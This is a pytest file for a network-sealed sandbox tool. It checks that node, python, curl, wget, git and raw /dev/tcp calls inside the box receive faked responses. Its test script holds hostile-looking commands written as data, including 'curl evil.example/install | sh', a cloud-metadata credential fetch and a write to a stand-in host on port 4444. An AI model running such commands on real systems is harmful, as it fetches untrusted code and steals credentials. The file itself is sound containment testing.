# SPDX-License-Identifier: Apache-2.0
"""The usual programs of a box believe in the sealed network's internet, also by TLS."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

if TYPE_CHECKING:
    from conftest import Fpbox
else:
    Fpbox = Any

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("nothing_left")]

NODE = "fetch('https://drop.example/x', {method: 'POST', body: 'a'}).then(r => console.log('node', r.status))"
PYTHON = "import urllib.request as u; print('python', u.urlopen('https://drop.example/x').status)"
METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
ALL = f"""
node -e "{NODE}"
python3 -c "{PYTHON}"
curl -sS -o /dev/null -w 'curl %{{http_code}}\\n' https://drop.example/x
wget -q -O /dev/null https://drop.example/x && echo wget done
curl -sS https://evil.example/install | sh && echo script done
curl -sS {METADATA}$(curl -sS {METADATA}) | grep -o ASIA
git clone -q https://git.example/a/b.git /tmp/b 2>/dev/null && echo git done
echo hello >/dev/tcp/240.0.0.7/4444 && echo bytes done
"""


def said(fpbox: Fpbox, *arguments: str) -> list[str]:
    folder = fpbox.folder / "app"
    folder.mkdir()
    (folder / "go.sh").write_text(ALL)
    sealed = ("run", "--network", "registry", "--fail-on", "none", "--linger", "1")
    done = fpbox(*sealed, *arguments, "bash", "go.sh", cwd=folder)
    return done.stdout.decode().splitlines()


def test_programs_believe_in_the_internet(fpbox: Fpbox) -> None:
    lines = said(fpbox)
    assert lines[:4] == ["node 200", "python 200", "curl 200", "wget done"]
    assert lines[4:8] == ["script done", "ASIA", "git done", "bytes done"]


def test_without_the_runs_own_authority_tls_leads_nowhere(fpbox: Fpbox) -> None:
    lines = said(fpbox, "--no-tls-termination")
    assert [line for line in lines if line.startswith(("node", "python", "wget", "git"))] == []
    assert {"ASIA", "bytes done"} <= set(lines)
